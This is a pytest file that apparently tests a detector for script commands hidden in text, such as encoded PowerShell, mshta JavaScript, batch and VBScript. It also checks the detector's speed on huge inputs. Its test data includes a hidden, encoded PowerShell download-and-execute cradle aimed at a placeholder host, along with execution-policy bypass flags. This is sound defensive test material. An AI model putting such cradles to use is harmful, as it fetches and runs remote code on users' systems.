from __future__ import annotations

import base64
import time

import pytest

from lazaretto.scripting.commands import inside, language_of

COMMAND = "iex (New-Object Net.WebClient).DownloadString('http://example.invalid/')"
ENCODED = base64.b64encode(COMMAND.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"powershell -nop -w hidden -enc {ENCODED}", ("powershell", COMMAND)),
        (f"powershell.exe /e {ENCODED}", ("powershell", COMMAND)),
        ("powershell -ep bypass -command iex $x.y", ("powershell", "iex $x.y")),
        ("mshta javascript:a();close()", ("javascript", "a();close()")),
        ("cmd /c p^ow x^y", ("batch", "p^ow x^y")),
        (
            base64.b64encode(b'CreateObject("WScript.Shell").Run 1, 2, 3, 4').decode(),
            ("vbscript", 'CreateObject("WScript.Shell").Run 1, 2, 3, 4'),
        ),
    ],
)
def test_inside(text: str, expected: tuple[str, str]) -> None:
    assert expected in list(inside(text))


def test_nothing_in_words() -> None:
    assert not list(inside("The quick brown fox jumps over the lazy dog " * 20))
    assert language_of("hello") == ""


@pytest.mark.parametrize(
    "text",
    ["powershell " * 50_000, "cmd /c " * 50_000, "A" * 1_000_000, "mshta javascript:" * 30_000, " -e " * 100_000],
)
def test_linear(text: str) -> None:
    began = time.process_time()
    list(inside(text))
    assert time.process_time() - began < 4
